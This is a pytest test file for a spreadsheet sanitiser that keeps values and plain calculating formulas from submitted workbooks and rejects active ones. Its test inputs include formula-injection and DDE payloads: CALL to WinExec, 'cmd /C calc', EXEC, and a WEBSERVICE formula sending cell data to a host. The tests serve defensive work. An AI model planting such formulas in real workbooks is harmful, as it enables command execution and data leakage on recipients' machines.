"""Of a sender's workbook that is kept which a clerk needs to mend it, and nothing that acts."""

import zipfile

import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.cell.rich_text import CellRichText
from python_calamine import CalamineWorkbook

from analysis.catalogue import catalogue as cat
from analysis.exchange import disarm, neutral
from analysis.schema.tables import CELLS

LIMITS = cat.load().parameters["limits"]


@pytest.mark.parametrize(
    "formula",
    [
        "=D12+E12+F12",
        "=SUM(C12:C20)",
        "=sum(C12,C14:C20)-2*D$3",
        "=IF(E12=0,0,ROUND(D12/E12*100,1))",
        "='II.06a'!C12+Sheet!$D$1",
        '=IFERROR(SUMIF(A:A,"Tỉnh",C:C),0)',
        "=-(C1%)^2",
        '=IF(A1<>"","x"&B1,"")',
    ],
)
def test_a_formula_that_only_calculates_stays(formula):
    assert disarm.harmless(formula, ["II.06a", "Sheet"])


ACTING = [
    '=HYPERLINK("https://example.org")',
    '=WEBSERVICE("https://example.org/"&A1)',
    '=CALL("kernel32","WinExec","JCJ","calc",0)',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd","/C calc","x")',
    "=[1]Sheet!A1+1",
    "='[other.xlsx]Sheet'!A1",
    "='C:\\x\\[other.xlsx]Sheet'!A1",
    "=SUM(Nowhere!A1)",
    '=INDIRECT("A1")',
    "=OFFSET(A1,1,1)",
    "=Auto_Open",
    "=Table[Column]",
    "=SUM(Sheet:Other!A1)",
    '=EXEC("calc")',
    '=_xlfn.FILTERXML(A1,"//x")',
    '=REGISTER.ID("a","b")',
    "=#REF!+1",
    "={1,2;3,4}",
    "=@SUM(A1)",
    "=A1#",
    "=SUM(",
    '="',
    "=" + "1+" * 5_000 + "1",
    "1+1",
    "",
]


@pytest.mark.parametrize("formula", ACTING)
def test_a_formula_that_does_anything_else_does_not(formula):
    assert not disarm.harmless(formula, ["Sheet", "Other"])


@given(
    acting=st.sampled_from([f.removeprefix("=") for f in ACTING if f.startswith("=") and f[1:]]),
    shell=st.sampled_from(["=SUM({},1)", "=1+{}", "=IF(A1=1,{},0)", "={}+A1", "=ROUND(({}),2)"]),
)
def test_nor_does_one_with_such_a_part_anywhere(acting, shell):
    assert not disarm.harmless(shell.format(acting), ["Sheet", "Other"])


@given(st.text(alphabet="=+-*/(){}[]!'\"$:;,.|@# AB12SUMIF\\", max_size=30))
def test_any_text_is_judged(text):
    assert disarm.harmless("=" + text, ["A"]) in (True, False)


def opened(path, book, sheets=()) -> openpyxl.Workbook:
    """The copy of a workbook as a program opens it, what formulas came to beside it."""
    book.save(path)
    copy, calculated = disarm.opened(path, sheets, LIMITS)
    back = path.with_name("back.xlsx")
    back.write_bytes(neutral.same_bytes(copy, calculated))
    return openpyxl.load_workbook(back, rich_text=True)


def calculated(path, values: dict[str, object]) -> None:
    """A workbook as Excel leaves it: with what its formulas came to."""
    book = openpyxl.load_workbook(path)
    path.write_bytes(neutral.same_bytes(book, {book.worksheets[0].title: values}))


def test_a_total_follows_and_is_shown_before_it_is_calculated_anew(tmp_path):
    book = openpyxl.Workbook()
    book.active.append([1, 2, "=A1+B1", '=HYPERLINK("https://example.org","x")', "=A1&B1"])
    path = tmp_path / "a.xlsx"
    book.save(path)
    calculated(path, {"C1": 3, "D1": "=x", "E1": "12"})
    copy, held = disarm.opened(path, ["Sheet"], LIMITS)
    back = tmp_path / "back.xlsx"
    back.write_bytes(neutral.same_bytes(copy, held))
    read = openpyxl.load_workbook(back)
    row = [cell.value for cell in read["Sheet"][1]]
    assert row == [1, 2, "=A1+B1", "=x", "=A1&B1"]
    assert [c.data_type for c in read["Sheet"][1]] == ["n", "n", "f", "s", "f"]
    assert read["Sheet"]["D1"].quotePrefix and read.calculation.fullCalcOnLoad
    seen = CalamineWorkbook.from_path(str(back)).get_sheet_by_name("Sheet").to_python()
    assert seen == [[1.0, 2.0, 3.0, "=x", "12"]]


def test_a_formula_without_a_value_stays_for_excel_to_calculate(tmp_path):
    book = openpyxl.Workbook()
    book.active.append([7, 18, "=A1+B1"])
    assert opened(tmp_path / "a.xlsx", book)["Sheet"]["C1"].value == "=A1+B1"


def test_a_mark_above_the_line_stays_above_the_line(tmp_path):
    """60 with a footnote mark is not shown as 601."""
    book = openpyxl.Workbook()
    book.active["A1"] = 0
    book.save(tmp_path / "plain.xlsx")
    above = b'<r><rPr><vertAlign val="superscript"/></rPr><t>1\xe2\x80\xae</t></r>'
    texts = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><r><t>60'
    texts += b"</t></r>" + above + b"</si></sst>"
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
    part = f'<Override PartName="/xl/sharedStrings.xml" ContentType="{kind}"/></Types>'
    changes = [(b'"A1" t="n"', b'"A1" t="s"'), (b"</Types>", part.encode())]
    with (
        zipfile.ZipFile(tmp_path / "plain.xlsx") as plain,
        zipfile.ZipFile(tmp_path / "a.xlsx", "w") as rich,
    ):
        rich.writestr("xl/sharedStrings.xml", texts)
        for name in plain.namelist():
            data = plain.read(name)
            for old, new in changes:
                data = data.replace(old, new)
            rich.writestr(name, data)
    copy, _ = disarm.opened(tmp_path / "a.xlsx", [], LIMITS)
    value = copy["Sheet"]["A1"].value
    assert isinstance(value, CellRichText) and str(value) == "601"
    assert value[1].font.vertAlign == "superscript"


def cells(rows: list[tuple]) -> pd.DataFrame:
    table = pd.DataFrame(rows, columns=["source_sheet", "row", "column", "raw_text", "raw_type"])
    return CELLS.of(table.assign(source_file="a.xls", source_cell="", shown=None, hidden=None))


def test_a_file_that_is_built_again_has_its_values_at_their_places_on_sheets_of_their_names():
    given = [
        ("II.06a", 2, 3, "4013", "number"),
        ("II.06a", 3, 1, "Tổng số", "text"),
        ("II.06a", 3, 2, "=1+1", "other"),
        ("Ẩn/2", 1, 1, "2022-05-17 00:00:00", "other"),
        ("Ẩn/2", 1, 2, "0.42", "number"),
    ]
    book = disarm.rebuilt(cells(given))
    assert book.sheetnames == ["II.06a", "Ẩn_2"]
    sheet = book["II.06a"]
    assert [sheet["C2"].value, sheet["A3"].value, sheet["B3"].value] == [4013, "Tổng số", "'=1+1"]
    assert sheet["B3"].data_type == "s"
    assert (book["Ẩn_2"]["A1"].value.day, book["Ẩn_2"]["B1"].value) == (17, 0.42)


def test_rows_of_one_unit_stand_under_the_numbers_of_their_lines():
    book = disarm.rebuilt(cells([("", 1, 1, "Đơn vị", "text"), ("", 4801, 1, "Hà Nội", "text")]))
    (sheet,) = book.worksheets
    assert sheet.title == disarm.UNNAMED and sheet["A4801"].value == "Hà Nội"
    assert sheet.sheet_format.zeroHeight, "the rows between do not show"


def test_places_that_no_sheet_of_excel_has_are_left_out():
    book = disarm.rebuilt(cells([("S", 1_048_577, 1, "x", "text"), ("S", 1, 1, "y", "text")]))
    assert [c.value for row in book["S"] for c in row] == ["y"]
